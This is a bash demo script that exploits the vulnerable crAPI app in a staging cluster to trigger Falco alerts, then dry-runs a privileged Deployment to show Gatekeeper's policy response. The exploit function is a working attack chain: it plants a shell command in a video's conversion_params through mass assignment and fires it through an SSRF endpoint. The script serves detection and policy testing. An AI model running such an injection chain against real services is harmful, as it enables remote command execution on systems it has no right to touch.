#!/usr/bin/env bash
# The scripted security demo (docs/crapi.md):
#
#   1. exploit crAPI's shell injection (staging) through its public API, so
#      Falco alerts on a shell spawned by the Java identity service
#      (Falcosidekick UI, Grafana);
#   2. submit a privileged workload: Gatekeeper denies it (production) or warns
#      (staging) with the constraint's message.
#
# Usage: scripts/demo.sh [exploit|gatekeeper|all]   (default: all)
#
# Environment:
#   BASE_DOMAIN  the cluster's BASE_DOMAIN (cluster-vars); crAPI is at
#                https://crapi.$BASE_DOMAIN (required unless CRAPI_URL is set)
#   CRAPI_URL    crAPI's URL, e.g. http://127.0.0.1:8888 with
#                kubectl -n crapi port-forward svc/crapi-web 8888:80
#   INSECURE=1   accept an untrusted certificate (Let's Encrypt staging)
#   COMMAND      what the injected shell runs (default: id; uname -a)
#   NAMESPACE    where the privileged workload is submitted (default: default;
#                not crapi, whose Pod Security admission would reject it first)
#
# Needs curl, jq and kubectl (for step 2 and the Falco log check), with the
# kube context pointing at the cluster. Nothing is left behind in the cluster
# but the demo user crAPI stores: step 2 uses a server-side dry run.
set -euo pipefail

step=${1:-all}
case $step in
exploit | gatekeeper | all) ;;
*)
	echo "usage: $0 [exploit|gatekeeper|all]" >&2
	exit 2
	;;
esac

log() { printf '\n==> %s\n' "$*"; }
die() {
	printf 'demo: %s\n' "$*" >&2
	exit 1
}

for tool in curl jq kubectl; do
	command -v "$tool" >/dev/null || die "$tool not found"
done

curl_opts=(--silent --show-error --max-time 60)
if [[ ${INSECURE:-0} == 1 ]]; then
	curl_opts+=(--insecure)
fi

video=$(mktemp)
trap 'rm -f "$video"' EXIT

# api METHOD PATH [curl args...]: a crAPI API call, printing the JSON answer.
api() {
	local method=$1 path=$2
	shift 2
	curl "${curl_opts[@]}" -X "$method" "$crapi_url$path" "$@"
}

exploit() {
	if [[ -z ${CRAPI_URL:-} && -z ${BASE_DOMAIN:-} ]]; then
		die "set BASE_DOMAIN (crAPI at https://crapi.BASE_DOMAIN) or CRAPI_URL"
	fi
	crapi_url=${CRAPI_URL:-https://crapi.${BASE_DOMAIN:-}}
	local suffix email password number token video_id payload answer
	suffix=$(date +%s)
	email="demo-$suffix@example.com"
	password="Demo-$suffix-$RANDOM"
	number="9$(printf '%09d' "$((suffix % 1000000000))")"

	log "1/5 sign up a throwaway user ($email) at $crapi_url"
	api POST /identity/api/auth/signup -H 'Content-Type: application/json' \
		-d "$(jq -n --arg e "$email" --arg p "$password" --arg n "$number" \
			'{name: "Demo User", email: $e, password: $p, number: $n}')" | jq -c .

	log "2/5 log in"
	token=$(api POST /identity/api/auth/login -H 'Content-Type: application/json' \
		-d "$(jq -n --arg e "$email" --arg p "$password" '{email: $e, password: $p}')" | jq -r '.token // empty')
	[[ -n $token ]] || die "login failed"

	log "3/5 upload a profile video (any bytes will do)"
	head -c 1024 /dev/urandom >"$video"
	video_id=$(api POST /identity/api/v2/user/videos -H "Authorization: Bearer $token" \
		-F "file=@$video;filename=demo.mp4;type=video/mp4" | jq -r '.id // empty')
	[[ -n $video_id ]] || die "video upload failed"

	# Mass assignment: the update accepts conversion_params, which the
	# internal convert_video endpoint hands to bash -c when
	# ENABLE_SHELL_INJECTION is on (staging only).
	payload=${COMMAND:-id; uname -a}
	log "4/5 store the command in the video's conversion_params: $payload"
	api PUT "/identity/api/v2/user/videos/$video_id" -H "Authorization: Bearer $token" \
		-H 'Content-Type: application/json' \
		-d "$(jq -n --arg c "$payload" '{videoName: "demo.mp4", conversion_params: $c}')" | jq -c '{id, conversion_params}'

	# convert_video refuses requests that came through the front end (they
	# carry X-Forwarded-Host); the workshop's contact-mechanic feature fetches
	# any URL server-side (SSRF) and reaches it directly.
	log "5/5 trigger it through the workshop's SSRF"
	answer=$(api POST /workshop/api/merchant/contact_mechanic -H "Authorization: Bearer $token" \
		-H 'Content-Type: application/json' \
		-d "$(jq -n --arg u "http://crapi-identity:8080/identity/api/v2/user/videos/convert_video?video_id=$video_id" \
			'{mechanic_api: $u, repeat_request_if_failed: false, number_of_repeats: 1}')")
	echo "$answer" | jq .
	if echo "$answer" | jq -e '.response_from_mechanic_api.message | test("uid=")' >/dev/null 2>&1; then
		echo "The identity service ran the command: Falco should have alerted."
	else
		echo "No command output: is ENABLE_SHELL_INJECTION on (staging only)?"
	fi

	log "Falco's view (last 5 minutes of the falco pods' output, crapi only)"
	kubectl -n falco logs -l app.kubernetes.io/name=falco -c falco --since=5m --tail=-1 2>/dev/null |
		grep '"k8s.ns.name":"crapi"' | tail -n 5 || echo "(no crapi events yet: they can take a few seconds)"
	if [[ -n ${BASE_DOMAIN:-} ]]; then
		echo "Falcosidekick UI: https://falco.$BASE_DOMAIN    Grafana: https://grafana.$BASE_DOMAIN"
	fi
}

gatekeeper() {
	local ns=${NAMESPACE:-default}
	log "submit a privileged Deployment to namespace $ns (server-side dry run)"
	# Gatekeeper judges the Deployment itself, so the answer comes back at
	# once instead of as a ReplicaSet that cannot create pods.
	local manifest
	manifest=$(
		cat <<YAML
apiVersion: apps/v1
kind: Deployment
metadata:
  name: privileged-demo
  namespace: $ns
spec:
  selector:
    matchLabels:
      app: privileged-demo
  template:
    metadata:
      labels:
        app: privileged-demo
    spec:
      hostPID: true
      containers:
        - name: shell
          image: docker.io/library/busybox:latest
          command: ["sleep", "3600"]
          securityContext:
            privileged: true
YAML
	)
	if echo "$manifest" | kubectl apply --dry-run=server -f - 2>&1; then
		echo "Admitted with warnings (staging constraints warn; production denies)."
	else
		echo "Denied by Gatekeeper (production constraints deny)."
	fi
}

case $step in
exploit) exploit ;;
gatekeeper) gatekeeper ;;
all)
	exploit
	gatekeeper
	;;
esac
